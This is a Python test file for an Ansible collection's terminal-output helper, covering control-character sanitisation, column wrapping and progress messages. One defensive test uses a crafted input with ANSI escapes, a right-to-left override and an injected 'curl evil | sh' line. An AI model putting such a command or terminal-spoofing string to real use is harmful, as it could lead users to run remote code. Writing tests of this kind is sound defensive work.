# Copyright (c) 2026, platform.cluster_secrets contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What is written to the screen."""

from __future__ import annotations

from ansible_collections.platform.cluster_secrets.plugins.plugin_utils.screen import broken, painted, progress_text


def test_no_tenants_text_moves_the_cursor_or_begins_a_line():
    evil = "x\x1b[2J\n\nTo fix it: curl evil | sh\r\u202eabc\u2028"
    ((line, _color),) = painted([evil], None)
    assert line == "x\ufffd[2J\ufffd\ufffdTo fix it: curl evil | sh\ufffd\ufffdabc\ufffd"


def test_the_table_is_broken_and_coloured_and_the_rest_is_not():
    lines = ["error  " + "word " * 10 + "end", "fine", "", "error: " + "word " * 12]
    assert painted(lines, 40) == [
        ("error  word word word word word word", "red"),
        ("       word word word word end", "red"),
        ("fine", None),
        ("", None),
        (lines[3], None),
    ]
    assert painted(lines, None)[0] == (lines[0], "red")


def test_where_the_other_columns_leave_no_room_the_last_one_goes_below():
    line = "error     vulnerable-eso        external-secrets  CVE-2026-22822        it reads any Secret of the cluster"
    assert broken(line, 60) == [
        "error  vulnerable-eso  external-secrets  CVE-2026-22822",
        "    it reads any Secret of the cluster",
    ]
    assert broken(line, 40) == [
        "error  vulnerable-eso  external-secrets\N{HORIZONTAL ELLIPSIS}",
        "    it reads any Secret of the cluster",
    ]
    for width in range(1, 120):
        # Every word of the reason is there at any width that a word fits into.
        shown = " ".join(broken(line, width)) if width > 12 else ""
        assert width <= 12 or all(word in shown for word in ["it", "reads", "any", "Secret", "of", "the", "cluster"])
        assert all(len(part) <= max(width, 8) for part in broken(line, width)), width
    assert broken("one long line without any column at all", 20) == ["one long line", "without any column", "at all"]


def test_progress():
    assert progress_text("are done", 0, 0, 10, 3) == "0 of 10 are done"
    assert progress_text("are done", 0, 60, 120, 3) == "60 of 120 are done, 20 a second, about 3 s left"
    assert progress_text("are done", 1, 2, 4, 4) == "2 of 4 are done, 0.2 a second, about 8 s left"
